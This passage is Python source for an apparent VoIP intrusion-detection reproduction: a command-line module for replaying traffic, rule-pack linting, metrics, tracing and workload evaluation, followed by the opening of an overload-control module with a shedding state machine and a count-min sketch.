        print(f"{count} malformed frames quarantined; "
              f"inspect with `repro explain malformed --bundle-dir {bundle_dir}`")


def _cmd_replay(args: argparse.Namespace) -> int:
    from repro.core.engine import ScidiveEngine
    from repro.net.pcap import read_pcap

    if args.rules:
        from repro.rulespec import lint_path

        errors = [i for i in lint_path(args.rules) if i.severity == "error"]
        if errors:
            for issue in errors:
                print(str(issue), file=sys.stderr)
            print(f"--rules {args.rules}: pack rejected "
                  f"({len(errors)} error(s))", file=sys.stderr)
            return 2
    trace = read_pcap(args.pcap)
    if args.bundle_dir:
        obs.configure_forensics(bundle_dir=args.bundle_dir)
    server = _start_server(args)
    try:
        if args.workers > 1:
            cluster_result = _cluster_replay(
                trace, args, args.vantage,
                source=server.source if server is not None else None,
            )
            _print_alerts(cluster_result.alerts)
            if args.json:
                count = write_alerts_jsonl(args.json, cluster_result.alerts)
                print(f"{count} alerts written to {args.json}")
            if args.metrics_out and cluster_result.registry is not None:
                cluster_result.registry.write_prometheus(args.metrics_out)
                print(f"merged cluster metrics written to {args.metrics_out}")
            _linger(server, args)
            return 0
        want_obs = bool(args.metrics_out or args.trace_out or server)
        ctx = obs.Observability.create(trace=bool(args.trace_out)) if want_obs else None
        engine = ScidiveEngine(vantage_ip=args.vantage, observability=ctx,
                               indexed_dispatch=not args.broadcast,
                               rulepack=args.rules)
        overload = None
        if getattr(args, "overload", False):
            from repro.resilience import EngineOverload

            overload = EngineOverload(engine)
            # /healthz reads engine.overload; the attribute only exists
            # on instrumented replays.
            engine.overload = overload
        if server is not None:
            # Bind before the replay so /healthz and /metrics answer mid-run.
            if ctx is not None:
                server.source.set_registry(ctx.registry)
            server.source.set_engine(engine)
        with _maybe_profile(args, "engine"):
            if overload is not None:
                for record in trace:
                    engine.process_frame(record.frame, record.timestamp)
                    overload.record_frame(record.timestamp)
                engine.snapshot_gauges()
            else:
                engine.process_trace(trace)
        mode = "broadcast" if args.broadcast else "indexed"
        if engine.rulepack is not None:
            mode += f" dispatch, pack {engine.rulepack.label}"
        else:
            mode += " dispatch"
        print(f"replayed {len(trace)} frames ({mode}): "
              f"{engine.stats.footprints} footprints, "
              f"{engine.stats.events} events, {len(engine.alerts)} alerts")
        if overload is not None:
            status = overload.as_dict()
            print(f"overload: state={status['state']} "
                  f"transitions={status['transitions_total'] or '{}'} "
                  f"burn={status['burn_rate']:.2f}x")
        _print_alerts(engine.alerts)
        if args.json:
            count = write_alerts_jsonl(args.json, engine.alerts)
            print(f"{count} alerts written to {args.json}")
        if args.bundle_dir:
            _write_malformed(args.bundle_dir, engine)
            written = obs.list_bundles(args.bundle_dir)
            print(f"{len(written)} evidence bundles in {args.bundle_dir}")
        _export_observability(ctx, args, engine=engine)
        _linger(server, args)
        return 0
    finally:
        if server is not None:
            server.stop()
        if args.bundle_dir:
            obs.configure_forensics(bundle_dir=None)


def _cmd_stats(args: argparse.Namespace) -> int:
    """Run one scenario fully instrumented and print the metrics report."""
    ctx = obs.enable(trace=True)
    # A stats run is a report, not a production deployment: sample rule
    # cost and stage sketches densely so short scenarios still populate
    # the cost table and quantile panels.
    ctx.cost_sample_rate = 2
    ctx.summary_sample_rate = 1
    try:
        result = _run_scenario(args.name, args.seed)
    finally:
        obs.disable()
    if result is None:
        print(f"unknown scenario {args.name!r}; try `repro list`", file=sys.stderr)
        return 2
    engine = result.engine
    engine.snapshot_gauges()
    if args.format == "prom":
        print(ctx.registry.render_prometheus(), end="")
    elif args.format == "json":
        import json as _json

        from repro.obs.server import _quantile_view

        # Same Alert serialization the /alerts endpoint uses (Alert.to_dict),
        # so scripted consumers see one schema everywhere.
        payload = ctx.registry.as_dict()
        payload["alerts"] = [alert.to_dict() for alert in result.alerts]
        if ctx.tracer is not None:
            payload["spans"] = len(ctx.tracer.spans)
            payload["spans_dropped"] = ctx.tracer.dropped
        payload["rule_costs"] = engine.ruleset.rule_stats()
        payload["top_rules"] = engine.ruleset.top_cost()
        if engine.rulepack is not None:
            payload["rulepack"] = engine.rulepack.info()
        stage_q = _quantile_view(
            ctx.registry, "scidive_stage_latency_seconds", by="stage"
        )
        if stage_q is not None:
            payload["stage_quantiles"] = stage_q
        frame_q = _quantile_view(ctx.registry, "scidive_frame_latency_seconds")
        if frame_q is not None:
            payload["frame_quantiles"] = frame_q
        print(_json.dumps(payload, indent=2, sort_keys=True))
    else:
        stats = engine.stats
        counter_rows = [
            ["frames", stats.frames],
            ["footprints", stats.footprints],
            ["events", stats.events],
            ["alerts", stats.alerts],
            ["engine cpu (s)", f"{stats.cpu_seconds:.4f}"],
            ["frames / cpu-second", f"{stats.frames_per_cpu_second:,.0f}"],
            ["live trails", engine.trails.trail_count],
            ["live sessions", engine.trails.session_count],
            ["tracked dialogs", engine.sip_state.call_count],
            ["tracked registrations", engine.registrations.session_count],
            ["trails reclaimed", engine.expired_trails],
            ["rule evaluations skipped", engine.ruleset.dispatch_skipped],
        ]
        if ctx.tracer is not None:
            counter_rows.append(["spans recorded", len(ctx.tracer.spans)])
            counter_rows.append(["spans dropped", ctx.tracer.dropped])
        if engine.rulepack is not None:
            counter_rows.append(["rule pack", engine.rulepack.label])
        print(format_table(
            ["metric", "value"],
            counter_rows,
            title=f"Pipeline counters — {args.name} (seed {args.seed})",
        ))
        print()
        print(format_stage_summary(engine.stage_summary()))
        from repro.obs.server import _quantile_view

        stage_q = _quantile_view(
            ctx.registry, "scidive_stage_latency_seconds", by="stage"
        )
        frame_q = _quantile_view(ctx.registry, "scidive_frame_latency_seconds")
        if stage_q or frame_q:
            rows = []
            if frame_q:
                rows.append(["frame"] + _quantile_cells(frame_q))
            for stage, view in (stage_q or {}).items():
                rows.append([stage] + _quantile_cells(view))
            print()
            print(format_table(
                ["stage", "p50 (ms)", "p90 (ms)", "p99 (ms)", "samples"],
                rows, title="Latency quantiles (streaming sketch)",
            ))
        print()
        rule_rows = [
            [r["rule_id"], r["attack_class"],
             r["mode"] if r["enabled"] else "disabled",
             r["matches_attempted"], r["alerts_raised"],
             r["shadow_matches"] + r["suppressed_alerts"],
             f"{r['cost_seconds'] * 1e3:.3f}", r["cost_samples"]]
            for r in engine.ruleset.rule_stats()
        ]
        print(format_table(
            ["rule", "class", "mode", "matches attempted", "alerts raised",
             "withheld", "est. cost (ms)", "cost samples"],
            rule_rows, title="Per-rule activity",
        ))
    _export_observability(ctx, args, engine=engine)
    return 0


def _quantile_cells(view: dict) -> list[str]:
    return [
        f"{view.get('p50', 0.0) * 1e3:.3f}",
        f"{view.get('p90', 0.0) * 1e3:.3f}",
        f"{view.get('p99', 0.0) * 1e3:.3f}",
        str(view.get("count", 0)),
    ]


def _cmd_explain(args: argparse.Namespace) -> int:
    """Render one alert's evidence bundle from the bundle alone."""
    try:
        bundle = obs.load_bundle(args.bundle_dir, args.alert_id)
    except FileNotFoundError:
        print(f"no bundle for {args.alert_id!r} in {args.bundle_dir}",
              file=sys.stderr)
        available = obs.list_bundles(args.bundle_dir)
        if available:
            print("available: " + ", ".join(available), file=sys.stderr)
        return 2
    except ValueError as exc:
        print(str(exc), file=sys.stderr)
        return 2
    print(obs.format_bundle(bundle))
    return 0


def _cmd_rules(args: argparse.Namespace) -> int:
    handlers = {
        "check": _cmd_rules_check,
        "show": _cmd_rules_show,
        "reload": _cmd_rules_reload,
    }
    return handlers[args.rules_command](args)


def _expand_rule_paths(targets: Sequence[str]) -> tuple[list[str], list[str]]:
    """Resolve check targets: directories scan recursively for ``*.rules``;
    returns (paths, complaints-for-empty-dirs)."""
    from pathlib import Path

    paths: list[str] = []
    missing: list[str] = []
    for target in targets:
        path = Path(target)
        if path.is_dir():
            found = sorted(str(p) for p in path.rglob("*.rules"))
            if found:
                paths.extend(found)
            else:
                missing.append(f"{target}: no .rules files found")
        else:
            paths.append(str(path))
    return paths, missing


def _cmd_rules_check(args: argparse.Namespace) -> int:
    """Lint rule packs with line-anchored diagnostics; exit 1 on errors
    (CI gates on this, so warnings alone stay exit 0)."""
    from repro.rulespec import lint_path

    paths, missing = _expand_rule_paths(args.paths)
    for complaint in missing:
        print(complaint, file=sys.stderr)
    if not paths:
        return 2
    errors = warnings = 0
    for path in paths:
        for issue in lint_path(path):
            print(str(issue))
            if issue.severity == "error":
                errors += 1
            else:
                warnings += 1
    verdict = "FAIL" if errors else "ok"
    print(f"{verdict}: {len(paths)} pack(s) checked, "
          f"{errors} error(s), {warnings} warning(s)")
    return 1 if errors or missing else 0


def _cmd_rules_show(args: argparse.Namespace) -> int:
    """Print a pack's identity and its compiled rules."""
    from repro.rulespec import RulePackError, compile_pack, load_pack

    try:
        pack = load_pack(args.pack)
        ruleset = compile_pack(pack)
    except RulePackError as exc:
        for issue in exc.issues:
            print(str(issue), file=sys.stderr)
        return 1
    print(f"pack {pack.label}  ({pack.source_path})")
    rows = []
    for rdef, rule in zip(pack.rules, ruleset.rules):
        trigger = rdef.event or " + ".join(rdef.events)
        rows.append([
            rdef.rule_id, rdef.shape, trigger, rule.severity.name,
            rdef.mode if rdef.enabled else "disabled",
            f"{pack.source_path}:{rdef.line}",
        ])
    print(format_table(
        ["rule", "shape", "trigger", "severity", "mode", "source"],
        rows, title=f"{len(pack.rules)} compiled rules",
    ))
    return 0


def _cmd_rules_reload(args: argparse.Namespace) -> int:
    """POST /rules/reload on a running sidecar and report the outcome."""
    import json as _json
    import os as _os
    import urllib.error
    import urllib.request

    from repro.obs.retry import with_retries

    base = (args.url or f"http://{args.host}:{args.port}").rstrip("/")
    body = _json.dumps({"path": _os.path.abspath(args.pack)}).encode("utf-8")
    request = urllib.request.Request(
        f"{base}/rules/reload", data=body, method="POST",
        headers={"Content-Type": "application/json"},
    )

    def _post() -> dict:
        with urllib.request.urlopen(request, timeout=30.0) as response:
            return _json.loads(response.read().decode("utf-8"))

    try:
        # Transient connect failures get 3 jittered-backoff attempts; an
        # HTTP error status (409 rejected pack) is final and not retried.
        payload = with_retries(_post)
    except urllib.error.HTTPError as exc:
        try:
            detail = _json.loads(exc.read().decode("utf-8")).get("error", "")
        except ValueError:
            detail = ""
        print(f"reload rejected ({exc.code}): {detail}", file=sys.stderr)
        return 1
    except (urllib.error.URLError, OSError) as exc:
        print(f"sidecar unreachable at {base}: {exc}", file=sys.stderr)
        return 1
    info = payload.get("rulepack", {})
    print(f"reloaded {info.get('label', '?')} on {payload.get('target', '?')} "
          f"(reload #{payload.get('reloads', '?')})")
    return 0


def _cmd_chaos(args: argparse.Namespace) -> int:
    """Fault-injection harness: replay the paper attacks under chaos and
    gate on the crash-safety invariants (exit 1 on any violation)."""
    import json as _json

    from repro.resilience import ChaosConfig, format_report, run_chaos

    overrides: dict = {
        "seed": args.seed,
        "workers": args.workers,
        "backend": args.cluster_backend,
        "inject_crashes": not args.no_crashes,
        "mutation_rate": args.mutation_rate,
        "flood_frames": args.flood,
    }
    if args.attacks:
        overrides["attacks"] = tuple(args.attacks)
    try:
        config = ChaosConfig(**overrides).validate()
    except ValueError as exc:
        print(str(exc), file=sys.stderr)
        return 2
    report = run_chaos(config)
    print(format_report(report))
    if args.json:
        with open(args.json, "w", encoding="utf-8") as fh:
            _json.dump(report.as_dict(), fh, indent=2, sort_keys=True)
            fh.write("\n")
        print(f"chaos report written to {args.json}")
    return 0 if report.ok else 1


def _cmd_bench_shards(args: argparse.Namespace) -> int:
    """Sweep ScidiveCluster worker counts on the mixed workload."""
    import json as _json

    from repro.cluster.benchmark import (
        build_scaling_workload,
        format_sweep,
        run_scaling_sweep,
    )

    trace = build_scaling_workload(
        sessions=args.sessions, packets_per_session=args.packets, seed=args.seed,
    )
    report = run_scaling_sweep(
        trace, worker_counts=tuple(args.workers),
        backend=args.cluster_backend, batch_size=args.batch_size,
    )
    print(format_sweep(report))
    if args.json:
        with open(args.json, "w", encoding="utf-8") as fh:
            _json.dump(report, fh, indent=2)
            fh.write("\n")
        print(f"sweep report written to {args.json}")
    if not report["equivalent"]:
        print("FAIL: cluster and single-engine alerts disagree", file=sys.stderr)
        return 1
    return 0


def _cmd_top(args: argparse.Namespace) -> int:
    """Dashboard over a live sidecar (curses, or --once plain text)."""
    from repro.obs import top as _top

    base_url = args.url or f"http://{args.host}:{args.port}"
    if args.once:
        return _top.run_once(base_url, window=args.window)
    try:
        return _top.run_curses(
            base_url, interval=args.interval, window=args.window
        )
    except KeyboardInterrupt:
        return 0


def _session_trace_candidates(identifier: str) -> list[str]:
    """Trace ids a bare call id could resolve to (SIP, then accounting)."""
    from repro.cluster.sharding import PLANE_SIGNALLING, ShardKey

    return [
        obs.session_trace_id(
            ShardKey(PLANE_SIGNALLING, (kind, identifier)).canon()
        )
        for kind in ("sip", "acct")
    ]


def _load_trace_spans(args: argparse.Namespace) -> list[dict] | None:
    """Span records from a merged --trace-out file or a live /trace endpoint."""
    if args.url or args.port is not None:
        import json as _json
        import urllib.error
        import urllib.request

        from repro.obs.retry import with_retries

        base = (args.url or f"http://{args.host}:{args.port}").rstrip("/")

        def _get() -> dict:
            with urllib.request.urlopen(
                f"{base}/trace?limit=1000000", timeout=30.0
            ) as response:
                return _json.loads(response.read().decode("utf-8"))

        try:
            payload = with_retries(_get)
        except (urllib.error.URLError, OSError, ValueError) as exc:
            print(f"sidecar unreachable at {base}: {exc}", file=sys.stderr)
            return None
        return list(payload.get("spans", ()))
    try:
        return obs.read_trace_jsonl(args.trace_file)
    except FileNotFoundError:
        print(f"no trace file at {args.trace_file}; run with --trace-out "
              "first, or point --url/--port at a live sidecar",
              file=sys.stderr)
        return None


def _cmd_trace(args: argparse.Namespace) -> int:
    """Frame-journey audit: one call's spans, sharder to alert."""
    records = _load_trace_spans(args)
    if records is None:
        return 2
    by_trace: dict[str, int] = {}
    for record in records:
        tid = record.get("trace", "")
        if tid:
            by_trace[tid] = by_trace.get(tid, 0) + 1
    tid = args.id if args.id in by_trace else None
    label = args.id
    if tid is None and args.bundle_dir:
        try:
            bundle = obs.load_bundle(args.bundle_dir, args.id)
        except (FileNotFoundError, ValueError):
            bundle = None
        if bundle is not None:
            session = (bundle.get("alert") or {}).get("session")
            if session:
                label = f"{args.id} (session {session})"
                for candidate in _session_trace_candidates(session):
                    if candidate in by_trace:
                        tid = candidate
                        break
    if tid is None:
        for candidate in _session_trace_candidates(args.id):
            if candidate in by_trace:
                tid = candidate
                break
    if tid is None:
        print(f"no spans for {args.id!r}", file=sys.stderr)
        if by_trace:
            preview = ", ".join(sorted(by_trace)[:8])
            print(f"{len(by_trace)} trace id(s) available: {preview}",
                  file=sys.stderr)
        print("hint: the id can be a trace id, a SIP/accounting call id, "
              "or (with --bundle-dir) an alert id", file=sys.stderr)
        return 2
    journey = obs.sort_timeline(
        [record for record in records if record.get("trace") == tid]
    )
    shown = journey[-args.limit:] if args.limit else journey
    rows = []
    for record in shown:
        meta = record.get("meta") or {}
        worker = record.get("worker", meta.get("worker", "-"))
        detail = " ".join(
            f"{key}={value}"
            for key, value in sorted(meta.items())
            if key != "worker"
        )
        rows.append([
            f"{record.get('t_sim', 0.0):9.4f}",
            record.get("span", "?"),
            str(worker),
            str(record.get("frame", "-")),
            f"{float(record.get('dur_us', 0.0)):10.1f}",
            detail or "-",
        ])
    print(f"trace {tid} — {label}: {len(journey)} spans"
          + (f" (showing last {len(shown)})" if len(shown) < len(journey) else ""))
    print(format_table(
        ["t (s)", "stage", "worker", "frame", "dur (µs)", "detail"], rows,
    ))
    totals: dict[str, float] = {}
    for record in journey:
        stage = str(record.get("span", "?")).partition(":")[0]
        totals[stage] = totals.get(stage, 0.0) + float(record.get("dur_us", 0.0))
    print("per-stage time: " + "  ".join(
        f"{stage}={totals[stage]:.1f}µs" for stage in sorted(totals)
    ))
    alert_spans = sum(
        1 for record in journey
        if str(record.get("span", "")).startswith("match")
        and (record.get("meta") or {}).get("alerts")
    )
    if alert_spans:
        print(f"{alert_spans} match span(s) raised alerts on this journey")
    return 0


def _cmd_profile(args: argparse.Namespace) -> int:
    """Sample a replay's hot path into a collapsed-stack profile."""
    from repro.core.engine import ScidiveEngine
    from repro.obs.profile import StackSampler, format_top

    if args.pcap:
        from repro.net.pcap import read_pcap

        trace = read_pcap(args.pcap)
        label = args.pcap.rsplit("/", 1)[-1].rsplit(".", 1)[0]
        vantage = args.vantage
    else:
        result = _run_scenario(args.scenario, args.seed)
        if result is None:
            print(f"unknown scenario {args.scenario!r}; try `repro list`",
                  file=sys.stderr)
            return 2
        trace = result.testbed.ids_tap.trace
        label = args.scenario
        vantage = result.engine.vantage_ip
    sampler = StackSampler(args.interval).start()
    passes = 0
    started = _time.monotonic()
    try:
        # --passes N replays exactly N times; --once replays until about a
        # second of wall clock has gone by (so CI always collects samples);
        # with neither, keep replaying until ctrl-c.
        while True:
            engine = ScidiveEngine(vantage_ip=vantage)
            engine.process_trace(trace)
            passes += 1
            if args.passes > 0 and passes >= args.passes:
                break
            if args.once and _time.monotonic() - started >= 1.0:
                break
    except KeyboardInterrupt:
        pass
    finally:
        sampler.stop()
    out = args.out or f"{label}.collapsed"
    count = sampler.write_collapsed(out)
    print(f"profiled {passes} replay pass(es) of {label}: "
          f"{count} samples at {sampler.interval * 1e3:g}ms")
    print(format_top(sampler, args.top_n))
    print(f"collapsed stacks written to {out}")
    return 0


def _cmd_table1(args: argparse.Namespace) -> int:
    from repro.experiments.table1 import TABLE1_HEADERS, build_table1

    rows = build_table1(seed=args.seed)
    print(format_table(TABLE1_HEADERS, [r.cells() for r in rows], title="Table 1"))
    return 0


def _cmd_modules(args: argparse.Namespace) -> int:
    """Describe the registered protocol modules (the stock pipeline)."""
    from repro.core.protocols import default_modules

    rows = []
    for module in default_modules():
        generators = module.generators()
        rules = module.rules()
        rows.append([
            module.name,
            ",".join(sorted(p.value for p in module.protocols)),
            "yes" if module.decoder is not None else "-",
            ", ".join(g.name for g in generators),
            ", ".join(r.rule_id for r in rules),
        ])
    print(format_table(
        ["module", "protocols", "decoder", "generators", "rules"],
        rows, title="Registered protocol modules",
    ))
    return 0


def _cmd_workload(args: argparse.Namespace) -> int:
    handlers = {
        "generate": _cmd_workload_generate,
        "check": _cmd_workload_check,
        "run": _cmd_workload_run,
        "report": _cmd_workload_report,
    }
    return handlers[args.workload_command](args)


def _workload_spec(args: argparse.Namespace):
    """Resolve the scenario: spec file (or built-in default) + CLI overrides."""
    import dataclasses as _dataclasses

    from repro.workload import ATTACK_KINDS, DEFAULT_SCENARIO, load_scenario
    from repro.workload.scenario import AttackMix

    spec = load_scenario(args.spec) if args.spec else DEFAULT_SCENARIO
    overrides: dict = {}
    for attr, key in (
        ("subscribers", "subscribers"),
        ("duration", "duration"),
        ("seed", "seed"),
        ("start_hour", "start_hour"),
    ):
        value = getattr(args, attr)
        if value is not None:
            overrides[key] = value
    if args.mix:
        attacks = {mix.kind: mix for mix in spec.attacks}
        for entry in args.mix:
            key, sep, value = entry.partition("=")
            if not sep:
                raise ValueError(f"--mix entries are KEY=VALUE (got {entry!r})")
            if key == "attacks":
                overrides["attack_ratio"] = float(value)
            elif key in ATTACK_KINDS:
                count = -1 if value == "auto" else int(value)
                if count == 0:
                    attacks.pop(key, None)
                elif key in attacks:
                    # Keep the spec's spacing — and, for flood kinds,
                    # its packets/pps — when only the count changes.
                    attacks[key] = _dataclasses.replace(
                        attacks[key], count=count
                    )
                else:
                    attacks[key] = AttackMix(key, count)
            else:
                raise ValueError(
                    f"--mix key {key!r} is neither 'attacks' nor an attack "
                    f"kind {sorted(ATTACK_KINDS)}"
                )
        overrides["attacks"] = tuple(attacks.values())
    return spec.with_overrides(**overrides) if overrides else spec


def _workload_generate(args: argparse.Namespace):
    from repro.workload import ScenarioError, generate_workload

    try:
        spec = _workload_spec(args)
    except (ScenarioError, ValueError) as exc:
        print(str(exc), file=sys.stderr)
        return None
    return generate_workload(spec)


def _write_workload_artifacts(result, out_dir: str) -> None:
    import json
    import os

    from repro.net.pcap import write_pcap
    from repro.workload import trace_digest

    os.makedirs(out_dir, exist_ok=True)
    write_pcap(os.path.join(out_dir, "trace.pcap"), result.trace)
    with open(os.path.join(out_dir, "truth.json"), "w", encoding="utf-8") as fh:
        fh.write(result.truth.to_json())
    stats = result.stats.as_dict()
    stats["trace_digest"] = trace_digest(result.trace)
    stats["truth_digest"] = result.truth.digest()
    with open(os.path.join(out_dir, "stats.json"), "w", encoding="utf-8") as fh:
        json.dump(stats, fh, indent=2, sort_keys=True)
    print(f"wrote trace.pcap, truth.json, stats.json to {out_dir}/")


def _cmd_workload_generate(args: argparse.Namespace) -> int:
    from repro.workload import trace_digest

    result = _workload_generate(args)
    if result is None:
        return 1
    stats = result.stats
    print(
        f"generated {stats.frames} frames / {stats.wire_bytes} bytes over "
        f"{stats.duration:.0f}s: {sum(stats.benign_sessions.values())} benign "
        f"sessions, {sum(stats.attack_sessions.values())} attacks "
        f"{stats.attack_sessions}"
    )
    print(f"trace digest {trace_digest(result.trace)}")
    _write_workload_artifacts(result, args.out)
    return 0


def _cmd_workload_check(args: argparse.Namespace) -> int:
    """Lint workload scenario specs; CI gates on exit status."""
    from pathlib import Path

    from repro.workload import lint_path

    paths: list[str] = []
    missing: list[str] = []
    for target in args.paths:
        path = Path(target)
        if path.is_dir():
            found = sorted(str(p) for p in path.rglob("*.workload"))
            if found:
                paths.extend(found)
            else:
                missing.append(f"{target}: no .workload files found")
        elif path.is_file():
            paths.append(str(path))
        else:
            missing.append(f"{target}: no such file or directory")
    for complaint in missing:
        print(complaint, file=sys.stderr)
    if not paths:
        return 2
    errors = warnings = 0
    for path in paths:
        for issue in lint_path(path):
            print(str(issue))
            if issue.severity == "error":
                errors += 1
            else:
                warnings += 1
    verdict = "FAIL" if errors else "ok"
    print(f"{verdict}: {len(paths)} spec(s) checked, "
          f"{errors} error(s), {warnings} warning(s)")
    return 1 if errors or missing else 0


def _evaluate_and_report(trace, truth, args: argparse.Namespace) -> int:
    from repro.experiments.quality import evaluate_workload, format_quality_report

    report = evaluate_workload(
        trace,
        truth,
        systems=tuple(args.systems),
        workers=args.workers,
        cluster_backend=args.cluster_backend,
        cluster_overload=getattr(args, "overload", False),
        sweeps=args.sweeps,
    )
    print(format_quality_report(report))
    if args.json:
        with open(args.json, "w", encoding="utf-8") as fh:
            fh.write(report.to_json())
        print(f"\nquality report written to {args.json}")
    if args.fail_on_miss:
        gated = [
            quality
            for name, quality in report.systems.items()
            if name in ("engine", "cluster")
        ]
        missed = sum(quality.missed for quality in gated)
        if missed or not gated:
            print(f"FAIL: {missed} attack(s) missed by the stateful systems",
                  file=sys.stderr)
            return 1
    return 0


def _cmd_workload_run(args: argparse.Namespace) -> int:
    result = _workload_generate(args)
    if result is None:
        return 1
    if args.out:
        _write_workload_artifacts(result, args.out)
    return _evaluate_and_report(result.trace, result.truth, args)


def _cmd_workload_report(args: argparse.Namespace) -> int:
    from repro.net.pcap import read_pcap
    from repro.workload import GroundTruth

    trace = read_pcap(args.trace)
    with open(args.truth, encoding="utf-8") as fh:
        truth = GroundTruth.from_json(fh.read())
    return _evaluate_and_report(trace, truth, args)


def _cmd_list(args: argparse.Namespace) -> int:
    print("attack scenarios:")
    for name in ATTACK_SCENARIOS:
        print(f"  {name}")
    print("benign scenarios:")
    for kind in BENIGN_KINDS:
        print(f"  benign-{kind}")
    return 0


def main(argv: Sequence[str] | None = None) -> int:
    args = _build_parser().parse_args(argv)
    if args.log_level:
        obs.setup_logging(level=args.log_level, json_lines=args.log_json)
    handlers = {
        "scenario": _cmd_scenario,
        "replay": _cmd_replay,
        "explain": _cmd_explain,
        "chaos": _cmd_chaos,
        "bench-shards": _cmd_bench_shards,
        "stats": _cmd_stats,
        "rules": _cmd_rules,
        "top": _cmd_top,
        "trace": _cmd_trace,
        "profile": _cmd_profile,
        "table1": _cmd_table1,
        "workload": _cmd_workload,
        "modules": _cmd_modules,
        "list": _cmd_list,
    }
    return handlers[args.command](args)


if __name__ == "__main__":  # pragma: no cover
    sys.exit(main())
