"""Closed-loop overload control: adaptive shedding with degraded-mode
detection guarantees under VoIP floods.

A stateful IDS is exactly what dies first under volumetric load: one
shed INVITE or BYE silences a whole dialog's worth of state, so a flood
doesn't just stress the cluster — it blinds the detector at the moment
an attacker most wants it blind.  The static ``overflow="block"|"drop"``
choice is not a policy: block stalls the router behind the flood, drop
sheds media-first with no feedback, no recovery hysteresis and no
accounting of what detection was given up.

This module closes the loop.  An :class:`OverloadController` samples
queue fill, the latency-budget burn rate (:mod:`repro.obs.budget`) and
shed counters once per tick and drives an explicit state machine::

    normal -> brownout -> shed -> recovering -> normal

with hysteresis on both edges (enter thresholds are higher than exit
thresholds, and de-escalation requires a *dwell* of consecutive calm
ticks) so the system never flaps.  Escalation is immediate — pressure
is an emergency; calm is only trusted after it persists.

Degraded-mode policy, in escalation order:

* **brownout** — expensive optional work goes first: span tracing and
  sketch sampling are floored, nothing is dropped;
* **shed** — non-signalling frames are dropped through the plane-aware
  path, *guarded by a per-source penalty box*: a count-min-sketch
  heavy-hitter accountant (:class:`SourceAccountant`) identifies
  flooding sources so their frames shed preferentially, and only
  adjudicated-heavy sources may ever lose signalling.  Innocent
  subscribers' signalling is never shed — the attacker's traffic
  degrades before the victim's detection does;
* **recovering** — pressure has subsided; optional work stays floored
  for ``recovery_ticks`` calm ticks, then the controller returns to
  ``normal`` and every degraded knob heals.

Every transition emits a ``SELF-OVERLOAD-<STATE>`` self-diagnostic
alert carrying the evidence (previous state, trigger metric, top-k
heavy sources), through the same sink as every other self-diagnostic —
overload is an alert, not a log line.
"""

from __future__ import annotations

import zlib
from dataclasses import dataclass
from typing import Callable, Iterable, Sequence

from repro.core.alerts import Alert, Severity

# State names double as the /healthz strings and the metric label values.
STATE_NORMAL = "normal"
STATE_BROWNOUT = "brownout"
STATE_SHED = "shed"
STATE_RECOVERING = "recovering"
OVERLOAD_STATES: tuple[str, ...] = (
    STATE_NORMAL,
    STATE_BROWNOUT,
    STATE_SHED,
    STATE_RECOVERING,
)
# Gauge encoding for scidive_overload_state (stable, documented order).
STATE_VALUES: dict[str, int] = {state: i for i, state in enumerate(OVERLOAD_STATES)}

# Self-diagnostic rule-id prefix: SELF-OVERLOAD-BROWNOUT, SELF-OVERLOAD-SHED,
# SELF-OVERLOAD-RECOVERING, SELF-OVERLOAD-NORMAL.  Distinct from the
# latency-budget detector's bare SELF-OVERLOAD heartbeat.
TRANSITION_RULE_PREFIX = "SELF-OVERLOAD-"

_TRANSITION_SEVERITY: dict[str, Severity] = {
    STATE_NORMAL: Severity.INFO,
    STATE_BROWNOUT: Severity.HIGH,
    STATE_SHED: Severity.CRITICAL,
    STATE_RECOVERING: Severity.MEDIUM,
}

_TRANSITION_LOG_LIMIT = 64


@dataclass(frozen=True, slots=True)
class OverloadConfig:
    """Thresholds and dwell times for one controller.

    Enter thresholds (``queue_high``, ``shed_high``, ``burn_high``) sit
    above the exit threshold (``queue_low``); de-escalation additionally
    requires ``dwell_ticks`` consecutive calm ticks, and ``recovering``
    holds for ``recovery_ticks`` more before ``normal`` — the two-sided
    hysteresis that keeps the state machine from flapping.
    """

    tick_frames: int = 256        # controller samples every N routed frames
    queue_high: float = 0.60      # fill fraction that enters brownout
    queue_low: float = 0.20       # fill fraction trusted as calm
    shed_high: float = 0.90       # fill fraction that enters shed
    burn_high: float = 1.5        # budget burn rate that enters brownout
    dwell_ticks: int = 3          # calm ticks before leaving brownout/shed
    recovery_ticks: int = 2       # calm ticks in recovering before normal
    shed_rate_low: float = 0.02   # dropped/tick_frames fraction still counted as pressure
    hot_share: float = 0.10       # share of the sketch window marking a heavy hitter
    hot_min: int = 64             # absolute frame floor for heaviness
    sketch_width: int = 1024
    sketch_depth: int = 4
    sketch_window: int = 8192     # frames between count decays
    top_k: int = 5                # heavy sources quoted in alerts/healthz

    def validate(self) -> "OverloadConfig":
        if self.tick_frames < 1:
            raise ValueError(f"tick_frames must be >= 1 (got {self.tick_frames})")
        if not 0.0 < self.queue_low < self.queue_high <= self.shed_high <= 1.0:
            raise ValueError(
                "thresholds must satisfy 0 < queue_low < queue_high <= "
                f"shed_high <= 1 (got {self.queue_low}, {self.queue_high}, "
                f"{self.shed_high})"
            )
        if self.burn_high < 0:
            raise ValueError(f"burn_high must be >= 0 (got {self.burn_high})")
        if self.dwell_ticks < 1 or self.recovery_ticks < 1:
            raise ValueError("dwell_ticks and recovery_ticks must be >= 1")
        if self.shed_rate_low < 0:
            raise ValueError(
                f"shed_rate_low must be >= 0 (got {self.shed_rate_low})"
            )
        if not 0.0 < self.hot_share <= 1.0:
            raise ValueError(f"hot_share must be in (0, 1] (got {self.hot_share})")
        if self.hot_min < 1:
            raise ValueError(f"hot_min must be >= 1 (got {self.hot_min})")
        if self.sketch_width < 16 or self.sketch_depth < 1:
            raise ValueError("sketch must be at least 16 wide and 1 deep")
        if self.sketch_window < self.hot_min:
            raise ValueError("sketch_window must be >= hot_min")
        return self


class CountMinSketch:
    """Fixed-memory frequency estimates over an unbounded key space.

    ``depth`` rows of ``width`` counters, each row indexed by a
    crc32 with a distinct salt; an estimate is the minimum across rows
    (classic Cormode–Muthukrishnan, over-counts but never under-counts).
    Memory is ``width * depth`` ints regardless of how many sources a
    flood spoofs — the property that makes per-source accounting safe
    to leave on in production.
    """

    __slots__ = ("width", "depth", "rows", "total")

    def __init__(self, width: int = 1024, depth: int = 4) -> None:
        self.width = width
        self.depth = depth
        self.rows: list[list[int]] = [[0] * width for _ in range(depth)]
        self.total = 0

    def add(self, key: bytes, count: int = 1) -> int:
        """Count ``key`` and return its new (over-)estimate."""
        self.total += count
        estimate = None
        for salt, row in enumerate(self.rows):
            slot = zlib.crc32(key, salt * 0x9E3779B1) % self.width
            row[slot] += count
            if estimate is None or row[slot] < estimate:
                estimate = row[slot]
        return estimate or 0

    def estimate(self, key: bytes) -> int:
